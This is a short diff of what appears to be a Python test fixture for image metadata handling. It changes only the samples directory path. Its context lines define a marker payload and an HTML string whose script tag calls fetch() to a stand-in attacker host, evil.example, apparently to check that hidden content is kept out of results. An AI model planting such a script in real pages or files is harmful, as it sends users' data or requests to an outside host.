@@ -12,7 +12,7 @@ from pathlib import Path
 
 from PIL import ExifTags, Image, PngImagePlugin
 
-SAMPLES = Path(__file__).parents[1] / "samples"
+SAMPLES = Path(__file__).parents[1] / "local/samples"
 # In the hidden part of each file that has one; no result may hold it.
 PAYLOAD = b"zq7payload"
 HTML = b"<!doctype html><script>fetch('//evil.example/" + PAYLOAD + b"')</script>"
